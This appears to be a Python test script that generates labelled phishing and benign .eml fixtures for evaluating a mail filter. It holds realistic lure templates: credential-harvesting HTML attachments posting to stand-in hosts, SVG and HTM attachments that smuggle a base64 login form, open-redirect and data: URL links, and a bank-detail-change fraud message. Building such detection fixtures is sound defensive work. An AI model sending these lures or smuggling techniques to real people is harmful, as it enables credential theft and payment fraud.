"""Regenerate tests/fixtures/eml/phishing: a small labelled set of phishing lures written here
in the shapes of 2022-2026 campaigns (MFA resets, DocuSign/SharePoint shares, invoice and QR
lures, parcel delivery, tax refunds, crypto wallets, HTML/SVG attachments, open redirectors)
and benign mail that looks like them (real brand notifications, a security newsletter, a
known supplier's invoice).

These are the project's own examples, not a public corpus: no public 2022-2026 phishing corpus
is reachable from this machine's registries (PyPI, npm, Debian). They are written to be
realistic, not to fit the rules; ``scripts/eval/filters.py --phishing`` prints what the
scorer makes of them. Run ``python tests/security/make_phishing.py``; commit the .eml files.
"""
# ruff: noqa: E501

from __future__ import annotations

import base64
import zlib
from email.message import EmailMessage
from pathlib import Path

OUT = Path(__file__).resolve().parents[1] / "fixtures" / "eml" / "phishing"
KNOWN = frozenset({"partner.example", "northwind.example"})  # the agent's correspondents
PASS = "mx.localhost; spf=pass smtp.mailfrom={d}; dkim=pass header.d={d}; dmarc=pass"
NONE = "mx.localhost; spf=pass smtp.mailfrom={d}; dkim=none; dmarc=none"
QR = b"\x89PNG\r\n\x1a\n" + bytes(64)


def make(frm: str, subject: str, *, text: str | None = None, html: str | None = None,
         reply_to: str | None = None, ar: str | None = "pass", attachments: tuple = (),
         headers: dict[str, str] | None = None) -> bytes:
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = frm, "agent@localhost", subject
    domain = frm.rsplit("@", 1)[1].rstrip(">")
    m["Message-ID"] = f"<{zlib.crc32(subject.encode())}@{domain}>"
    if ar:
        m["Authentication-Results"] = (PASS if ar == "pass" else NONE if ar == "none" else ar).format(d=domain)
    if reply_to:
        m["Reply-To"] = reply_to
    for k, v in (headers or {}).items():
        m[k] = v
    if text is not None:
        m.set_content(text)
        if html is not None:
            m.add_alternative(html, subtype="html")
    else:
        m.set_content(html or "", subtype="html")
    for name, data, ctype in attachments:
        main, sub = ctype.split("/")
        m.add_attachment(data, maintype=main, subtype=sub, filename=name)
    for i, part in enumerate(p for p in m.walk() if p.is_multipart()):
        part.set_boundary(f"phish-boundary-{i}")
    return bytes(m)


def button(href: str, label: str) -> str:
    return f'<table><tr><td style="background:#0067b8;padding:12px"><a href="{href}" style="color:#fff">{label}</a></td></tr></table>'


SMUGGLED = base64.b64encode(b"<html><form action='https://c.example/p'><input type=password></form></html>").decode()
LURES: dict[str, bytes] = {
    "mfa_reset_m365": make(
        "Microsoft 365 Admin <no-reply@m365-secure-admin.com>", "Action required: re-enroll multi-factor authentication",
        html="<p>Dear user,</p><p>Your organisation requires all accounts to re-enroll multi-factor authentication by Friday. "
             "Accounts that do not complete it will be signed out.</p>" + button("https://m365-secure-admin.com/mfa/enroll?u=agent", "Re-enroll MFA now")
             + "<p>IT Service Desk</p>", ar="none"),
    "mfa_okta": make(
        "Okta Verify <noreply@okta-verify-portal.net>", "Your Okta Verify enrollment expires today",
        text="Hello,\n\nYour Okta Verify enrollment expires today. To avoid losing access to company apps, sign in to verify your device:\n\nhttps://okta-verify-portal.net/enroll\n\nThank you,\nIT Security\n", ar="none"),
    "docusign_share": make(
        "DocuSign Electronic Signature <dse@docusign-envelope.net>", "Completed: Please DocuSign: Payroll_Adjustment_2025.pdf",
        html="<p>Human Resources sent you a document to review and sign.</p>" + button("https://hr-portal-files.example/envelope/8f2a", "REVIEW DOCUMENT")
             + "<p>Do not share this email. This message contains a secure link to DocuSign.</p>", ar="none"),
    "sharepoint_compromised": make(
        "Jenny Miller <j.miller@millerplumbing.example>", "Jenny Miller shared \"Q3 Remittance.pdf\" with you",
        html="<p>Jenny Miller shared a file with you</p><p><b>Q3 Remittance.pdf</b></p>" + button("https://millerplumbing-my.filesview.example/personal/doc.aspx", "Open in SharePoint")
             + "<p>This link will work for anyone. Microsoft respects your privacy.</p>"),
    "onedrive_html_attachment": make(
        "OneDrive <notifications@corp-files.example>", "You have received 2 new documents",
        text="Please see the attached documents. Open the attachment in your browser and sign in with your work email to view.\n", ar="none",
        attachments=(("Documents_Secure.html", b'<html><body><img src="https://corp-files.example/ms.png"><form method="post" action="https://corp-files.example/api/l"><input type="email" name="login"><input type="password" name="passwd"><button>Sign in</button></form></body></html>', "text/html"),)),
    "invoice_qr": make(
        "Accounts Payable <ap@quickpay-billing.example>", "Outstanding invoice INV-20931 - payment due today",
        html='<p>Scan to pay invoice INV-20931 today.</p><img src="cid:qr" width="220" height="220">', ar="none",
        attachments=(("invoice_qr.png", QR, "image/png"),)),
    "qr_mfa": make(
        "Security Team <security@helpdesk-mail.example>", "MFA update required",
        html='<img src="cid:qr" width="260" height="260"><p>Scan with your phone camera within 24 hours.</p>', ar="none",
        attachments=(("mfa.png", QR, "image/png"),)),
    "qr_no_text": make(
        "Payroll <payroll@hr-benefits-portal.example>", "2025 salary adjustment - scan the code",
        html='<img src="cid:qr" width="300" height="300">', ar="none", attachments=(("salary.png", QR, "image/png"),)),
    "parcel_dhl": make(
        "DHL Express <tracking@dhl-parcel-notice.com>", "Your parcel is on hold: customs fee outstanding",
        html="<p>Dear customer, your parcel is on hold at our depot because a customs fee of 1.99 EUR is unpaid.</p>" + button("https://dhl-parcel-notice.com/pay", "Pay and schedule delivery")
             + "<p>If payment is not received within 48 hours the parcel will be returned.</p>", ar="none"),
    "parcel_usps": make(
        "USPS <info@usps-redelivery.info>", "USPS: delivery attempt failed",
        text="USPS: your package could not be delivered due to an incomplete address. Update your address for redelivery within 12 hours: https://usps-redelivery.info/track\n", ar="none"),
    "parcel_royalmail": make(
        "Royal Mail <noreply@rm-redeliver-uk.example>", "Royal Mail: we missed you",
        html="<p>We tried to deliver your parcel today. A redelivery fee of £1.45 is due.</p>" + button("https://rm-redeliver-uk.example/fee", "Arrange redelivery"), ar="none"),
    "tax_hmrc": make(
        "HMRC <refunds@hmrc-gov-refund.com>", "You are eligible for a tax refund",
        text="After the annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of 468.50 GBP. Submit the tax refund request within 3 days: https://hmrc-gov-refund.com/claim\n", ar="none"),
    "tax_irs": make(
        "IRS Online Services <irs-notice@tax-refund-center.example>", "IRS: your tax refund is pending",
        html="<p>Your tax refund is pending. Confirm your identity to release the payment.</p>" + button("https://tax-refund-center.example/irs/verify", "Verify identity"), ar="none"),
    "crypto_metamask": make(
        "MetaMask <support@metamask-wallet.io>", "Wallet verification required",
        html="<p>Due to new regulations your wallet will be suspended unless you complete wallet verification. You will need your secret recovery phrase.</p>" + button("https://metamask-wallet.io/verify", "Verify wallet"), ar="none"),
    "crypto_coinbase": make(
        "Coinbase <no-reply@c0inbase-support.com>", "Unusual sign-in activity on your account",
        text="We detected unusual sign-in activity on your Coinbase account. If this was not you, secure your account now: https://c0inbase-support.com/secure\n", ar="none"),
    "paypal_spoofed": make(
        "PayPal <service@paypal.com>", "Your account has been limited",
        html="<p>We noticed some unusual activity and your account has been limited. Restore access:</p>" + button("https://paypal-resolution-center.example/login", "Log in to PayPal"),
        ar="mx.localhost; spf=fail smtp.mailfrom=paypal.com; dkim=none; dmarc=fail"),
    "apple_id_locked": make(
        "Apple Support <support@id-verification-notice.example>", "Your Apple ID has been locked",
        html="<p>Your Apple ID has been locked for security reasons. Verify your account information to unlock it.</p>" + button("https://id-verification-notice.example/apple", "Unlock Apple ID"), ar="none"),
    "netflix_payment": make(
        "Netflix <billing@netflix-account-update.com>", "Payment declined - update your payment method",
        text="Your last payment was declined. Update your payment details to keep watching: https://netflix-account-update.com/billing\n", ar="none"),
    "amazon_order": make(
        "Amazon.com <order-update@amaz0n-orders.com>", "Your order #112-4432 could not be processed",
        html="<p>Your card payment was declined and your order is on hold. Update your payment information.</p>" + button("https://amaz0n-orders.com/pay", "Update payment"), ar="none"),
    "chase_alert": make(
        "Chase <alerts@secure-banking-alerts.example>", "Chase: unusual sign-in attempt",
        text="We blocked an unusual sign-in attempt on your account. Confirm your identity at https://secure-banking-alerts.example/chase to avoid suspension.\n", ar="none"),
    "google_redirect": make(
        "Google Docs <drive-shares-noreply@docs-share.example>", "Document shared with you: \"Budget 2026\"",
        html="<p>Shared a document with you: Budget 2026</p>" + button("https://www.google.com/url?q=https://docs-viewer-login.example/d/88&sa=D", "Open"), ar="none"),
    "bec_invoice_change": make(
        "Dana Price <dana.price@northwind-supply.example>", "Updated bank details for invoice 4471",
        text="Hi,\n\nPlease note our bank details have changed. Kindly send the payment for invoice 4471 by wire transfer to the new account below today, and confirm once done.\n\nIBAN DE89 3704 0044 0532 0130 00\n\nDana\n",
        reply_to="dana.price.accounts@gmail.com", ar="none"),
    "data_url_link": make(
        "Secure Message <securemail@message-center.example>", "You have a new encrypted message",
        html=f'<p>You have received a secure message.</p><a href="data:text/html;base64,{SMUGGLED}">Read secure message</a>', ar="none"),
    "svg_smuggling": make(
        "Voice Mail <voicemail@pbx-notify.example>", "New voicemail (00:42) from +1 415 555 0199",
        text="You have a new voicemail. Play the attached message.\n", ar="none",
        attachments=(("VM_0042.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><script>document.write(atob("{SMUGGLED}"));</script></svg>'.encode(), "image/svg+xml"),)),
    "voicemail_data_redirect": make(
        "Voice Mail <voicemail@pbx-notify.example>", "Missed call: voicemail attached",
        text="Listen to your voicemail in the attachment.\n", ar="none",
        attachments=(("Play_VM.htm", f'<html><script>window.location.href = "data:text/html;base64,{SMUGGLED}";</script></html>'.encode(), "text/html"),)),
    "linkedin_job": make(
        "LinkedIn <messages-noreply@linkedin-mail.example>", "You appeared in 9 searches this week",
        html="<p>A recruiter sent you a message about a role.</p>" + button("https://linkedin-mail.example/login", "Sign in to view message"), ar="none"),
    "wetransfer": make(
        "WeTransfer <noreply@wetransfer-files.example>", "You received 3 files via WeTransfer",
        html="<p>3 files, 24 MB in total. Files will be deleted in 2 days.</p>" + button("https://wetransfer-files.example/d/8a7", "Download files"), ar="none"),
    "mailbox_quota": make(
        "Mail Administrator <postmaster@mail-quota-service.example>", "Mailbox storage full - incoming mail suspended",
        text="Your mailbox storage is full and incoming messages are being suspended. Click here to sign in and increase your quota immediately: https://mail-quota-service.example/upgrade\n", ar="none"),
}

BENIGN: dict[str, bytes] = {
    "paypal_receipt": make(
        "service@paypal.com", "Receipt for your payment to Northwind Supply",
        html="<p>You sent a payment of $48.00 USD to Northwind Supply.</p><p>Transaction ID 7XL22918.</p>" + button("https://www.paypal.com/activity", "View transaction")),
    "microsoft_alert": make(
        "Microsoft account team <account-security-noreply@accountprotection.microsoft.com>", "Microsoft account unusual sign-in activity",
        text="We detected something unusual about a recent sign-in to the Microsoft account ag***@example.com. If this was you, you can safely ignore this email. Review recent activity: https://account.live.com/activity\n"),
    "docusign_real": make(
        "Northwind Legal via DocuSign <dse_NA4@docusign.net>", "Please DocuSign: Services Agreement 2026",
        html="<p>Northwind Legal sent you a document to review and sign.</p>" + button("https://na4.docusign.net/Signing/EmailStart.aspx?a=1f2e", "REVIEW DOCUMENT")),
    "dhl_real": make(
        "DHL Express <noreply@dhl.com>", "Your DHL shipment 1234567890 is on its way",
        html="<p>Your shipment is on its way and will be delivered tomorrow.</p>" + button("https://www.dhl.com/en/express/tracking.html?AWB=1234567890", "Track shipment")),
    "supplier_invoice_known": make(
        "Anna Lee <anna@partner.example>", "Invoice 2291 for October",
        text="Hi,\n\nAttached is invoice 2291 for the October deliveries. Payment terms as usual, 30 days to our account on file.\n\nThanks,\nAnna\n",
        attachments=(("invoice-2291.pdf", b"%PDF-1.4", "application/pdf"),)),
    "wifi_qr_with_text": make(
        "Sam Lee <sam@partner.example>", "Guest wifi for Thursday's workshop",
        html='<p>Hi all, for the workshop on Thursday the guest network is called Partner-Guest. Scan the code below with your phone or type the password from the sheet at the reception desk. See you there.</p><img src="cid:qr" width="200">',
        attachments=(("wifi.png", QR, "image/png"),)),
    "security_newsletter": make(
        "Security Weekly <news@securityweekly.example>", "This week: PayPal and Microsoft 365 lures",
        html="<p>This week attackers sent fake PayPal notices asking people to verify your account, and Microsoft 365 MFA reset lures. "
             "Never sign in through a link in an email; go to the site yourself.</p>" + button("https://securityweekly.example/issue/212", "Read the issue"),
        headers={"List-Unsubscribe": "<https://securityweekly.example/unsub>", "List-Id": "<news.securityweekly.example>"}),
    "google_docs_real": make(
        "Anna Lee (via Google Docs) <drive-shares-dm-noreply@google.com>", "Document shared with you: \"Q4 plan\"",
        html="<p>Anna Lee shared a document with you.</p>" + button("https://docs.google.com/document/d/1abc/edit?usp=sharing", "Open")),
    "it_mfa_rollout": make(
        "IT Team <it@partner.example>", "MFA rollout next week",
        text="Hi everyone, next Monday we switch on multi-factor authentication for the VPN. Nothing to do today; we will walk you through it at the team meeting.\n"),
    "github_real": make(
        "GitHub <noreply@github.com>", "[GitHub] A new SSH authentication public key was added to your account",
        text="A new SSH key was added to your account. If you did not add this key, review your keys at https://github.com/settings/keys\n"),
    "photo_from_phone": make(
        "Sam Lee <sam@partner.example>", "photo", html='<img src="cid:p" width="1024"><p>Sent from my phone</p>',
        attachments=(("IMG_2231.jpg", b"\xff\xd8\xff\xe0", "image/jpeg"),)),
    "vendor_first_contact_plain": make(
        "Lena Ortiz <lena@brightdesk.example>", "Intro: office furniture catalogue",
        text="Hello, I'm Lena from Brightdesk. We make standing desks for small offices. Happy to send a catalogue if useful. Best, Lena\n", ar="none"),
}


if __name__ == "__main__":
    OUT.mkdir(parents=True, exist_ok=True)
    for name, raw in LURES.items():
        (OUT / f"lure.{name}.eml").write_bytes(raw)
    for name, raw in BENIGN.items():
        (OUT / f"benign.{name}.eml").write_bytes(raw)
    print(len(LURES), "lures,", len(BENIGN), "benign")
